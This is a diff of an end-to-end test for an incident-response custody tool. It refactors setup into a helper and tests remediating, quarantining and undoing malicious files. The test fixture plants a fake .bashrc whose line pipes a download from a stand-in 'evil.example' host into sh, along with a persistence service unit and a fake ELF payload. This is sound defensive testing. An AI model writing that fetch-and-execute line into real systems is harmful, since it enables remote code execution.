@@ -1,58 +1,26 @@
-import { type ChildProcess, spawn, spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { request } from "node:https";
-import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { type SignedCustodyReport, verifyCustodyReport } from "@custody/audit";
-import { createVaultClient, type VaultClient } from "@custody/client";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { type LiveConsole, spawnConsole, until } from "./support/live-e2e.ts";
+import { LiveBench, type LiveConsole } from "./support/live-e2e.ts";
 
 // putfile, remediate and undo end to end, every part a real process: `custody serve`, an agent enrolled
 // with `custody agent enroll` running as `custody agent run`, and an analyst's `custody live connect`
 // console. The quarantined bytes are an item of the case, the file comes back byte-identical, and both
 // steps are in the item's custody report. The attacks: a path trick, putfile over an existing file, an
 // undo from another case, a second undo.
-const BIN = join(import.meta.dirname, "..", "packages", "cli", "dist", "bin.js");
-const work = mkdtempSync(join(tmpdir(), "custody-remediate-"));
-const vault = join(work, "vault");
+const bench = new LiveBench();
+const { work, vault } = bench;
 const CASE = "IR-2026-14";
 const OTHER = "IR-2026-99";
-const children: ChildProcess[] = [];
 let url = "";
-let alice: VaultClient;
 let deviceId = "";
 
-function custody(args: string[]) {
-  const result = spawnSync(process.execPath, [BIN, ...args], {
-    cwd: work,
-    env: { ...process.env, CUSTODY_VAULT: vault },
-    encoding: "utf8",
-  });
-  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
-}
-
-const remote = () => ["--server", url, "--identity", join(work, "alice.pem")];
-
-function start(args: string[], ready: RegExp): Promise<ChildProcess> {
-  const child = spawn(process.execPath, [BIN, ...args], {
-    cwd: work,
-    env: { ...process.env, CUSTODY_LOG_LEVEL: "info" },
-    stdio: ["ignore", "pipe", "pipe"],
-  });
-  children.push(child);
-  let output = "";
-  return new Promise((resolve, reject) => {
-    const seen = (chunk: Buffer) => {
-      output += chunk.toString();
-      if (ready.test(output)) resolve(child);
-    };
-    child.stdout?.on("data", seen);
-    child.stderr?.on("data", seen);
-    child.once("exit", (code) => reject(new Error(`${args[0]} exited ${code}: ${output}`)));
-  });
-}
+const custody = (args: string[]) => bench.custody(args);
+const alice = () => bench.custodian();
+const remote = () => bench.as("alice");
 
 const sysroot = join(work, "sysroot");
 const BASHRC = "alias ll='ls -l'\n(curl -s http://evil.example/x | sh) &\n";
@@ -61,52 +29,23 @@ const TOOL = "#!/bin/sh\necho a responder's tool\n";
 const EVIL = Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(200_000, 0x41), Buffer.from("payload\n")]);
 
 beforeAll(async () => {
-  expect(custody(["init", "--name", "alice", "--identity-out", join(work, "alice.pem")]).code).toBe(0);
-  await start(["serve", "--vault", vault, "--listen", "127.0.0.1:0", "--name", "127.0.0.1"], /listening on/);
-  url = (JSON.parse(readFileSync(join(vault, "server.json"), "utf8")) as { urls: string[] }).urls[0] ?? "";
-  alice = createVaultClient({ baseUrl: url, identityPem: readFileSync(join(work, "alice.pem"), "utf8") });
-  const rita = await alice.issueIdentity("rita", "person");
-  writeFileSync(join(work, "rita.pem"), rita.identityPem, { mode: 0o600 });
-  await alice.setLiveResponse(true);
-  const { token } = await alice.createEnrollmentToken({ caseId: CASE });
-  writeFileSync(join(work, "ca.pem"), readFileSync(join(vault, "pki", "ca.pem")));
-  const enrolled = custody([
-    "agent",
-    "enroll",
-    "--server",
-    url,
-    "--token",
-    token,
-    "--dir",
-    "agent",
-    "--ca",
-    "ca.pem",
-    "--json",
-  ]);
-  expect(enrolled.code, enrolled.stderr).toBe(0);
-  deviceId = (JSON.parse(enrolled.stdout) as { deviceId: string }).deviceId;
+  await bench.serve(["rita"], CASE);
+  url = bench.url;
+  deviceId = bench.deviceId;
   // a file left in the working folder by an earlier run is gone once the agent starts
   mkdirSync(join(work, "agent", "work"), { recursive: true });
   writeFileSync(join(work, "agent", "work", "stale.txt"), "from an earlier run");
   // unit files, cron and autostart entries are looked up under a test root (systemctl is then not called)
-  const policy = { ...JSON.parse(custody(["agent", "policy"]).stdout), remediation: { systemRoot: sysroot } };
-  writeFileSync(join(work, "policy.json"), JSON.stringify(policy), { mode: 0o600 });
+  bench.amendPolicy({ remediation: { systemRoot: sysroot } });
   mkdirSync(join(sysroot, "home", "eve"), { recursive: true });
   mkdirSync(join(sysroot, "etc", "systemd", "system"), { recursive: true });
   mkdirSync(join(sysroot, "opt", "evil"), { recursive: true });
   writeFileSync(join(sysroot, "home", "eve", ".bashrc"), BASHRC);
   writeFileSync(join(sysroot, "etc", "systemd", "system", "evil.service"), UNIT);
   writeFileSync(join(sysroot, "opt", "evil", "svc"), "#!/bin/sh\nsleep 600\n", { mode: 0o755 });
-  await start(
-    ["agent", "run", "--dir", join(work, "agent"), "--policy", join(work, "policy.json")],
-    /welcome|connected|agent starting/,
-  );
-  await until(
-    async () => ((await alice.listDevices()).find((d) => d.deviceId === deviceId)?.online ? true : undefined),
-    "agent online",
-  );
+  await bench.startAgent();
   for (const scope of [`device:${deviceId}`, `case:${CASE}`, `case:${OTHER}`])
-    await alice.grant({ name: "rita", role: "responder", scope });
+    await alice().grant({ name: "rita", role: "responder", scope });
   writeFileSync(join(work, "tool.sh"), TOOL);
   expect(custody(["library", "upload", "tool.sh", ...remote()]).code).toBe(0);
   mkdirSync(join(work, "suspect", "sub"), { recursive: true });
@@ -114,29 +53,10 @@ beforeAll(async () => {
 }, 180_000);
 
 afterAll(async () => {
-  alice?.close();
-  for (const child of children.reverse()) {
-    child.kill("SIGTERM");
-    if (child.exitCode === null) await new Promise((resolve) => child.once("exit", resolve));
-  }
-  rmSync(work, { recursive: true, force: true });
+  await bench.close();
 });
 
-function connect(caseId: string): Promise<LiveConsole> {
-  const args = [
-    "live",
-    "connect",
-    deviceId,
-    "--case",
-    caseId,
-    "--server",
-    url,
-    "--identity",
-    join(work, "rita.pem"),
-  ];
-  const con = spawnConsole(work, args, deviceId, children);
-  return until(async () => (con.prompts() > 0 ? con : undefined), "the first prompt");
-}
+const connect = (caseId: string): Promise<LiveConsole> => bench.connect("rita", caseId);
 
 async function close(con: LiveConsole): Promise<void> {
   con.child.stdin?.end();
@@ -163,7 +83,7 @@ function call(method: string, path: string, cert: { cert: string; key: string },
 }
 
 async function itemBytes(id: string, caseId: string): Promise<Buffer> {
-  const read = await alice.read({ id, caseId });
+  const read = await alice().read({ id, caseId });
   const chunks: Buffer[] = [];
   for await (const chunk of read.stream) chunks.push(chunk as Buffer);
   return Buffer.concat(chunks);
@@ -219,7 +139,7 @@ describe("putfile, remediate and undo, end to end", () => {
     expect(itemId).toBe(createHash("sha256").update(EVIL).digest("hex"));
     expect(existsSync(target)).toBe(false);
     expect((await itemBytes(itemId, CASE)).equals(EVIL)).toBe(true);
-    const recorded = (await alice.showAudit()).find((r) => r.action === "remediation.recorded");
+    const recorded = (await alice().showAudit()).find((r) => r.action === "remediation.recorded");
     expect(recorded?.details).toMatchObject({ remediationId, caseId: CASE, type: "file", itemIds: [itemId] });
     await close(con);
 
@@ -236,7 +156,7 @@ describe("putfile, remediate and undo, end to end", () => {
     expect((await again.run(`undo ${remediationId}`)).err).toMatch(/\] failed.*ERR_REMEDIATION_REFUSED/);
     await close(again);
 
-    const report = (await alice.report({ id: itemId, caseId: CASE })) as SignedCustodyReport;
+    const report = (await alice().report({ id: itemId, caseId: CASE })) as SignedCustodyReport;
     const actions = report.report.events.map((e) => e.action);
     expect(actions).toContain("remediation.recorded");
     expect(actions).toContain("remediation.undone");
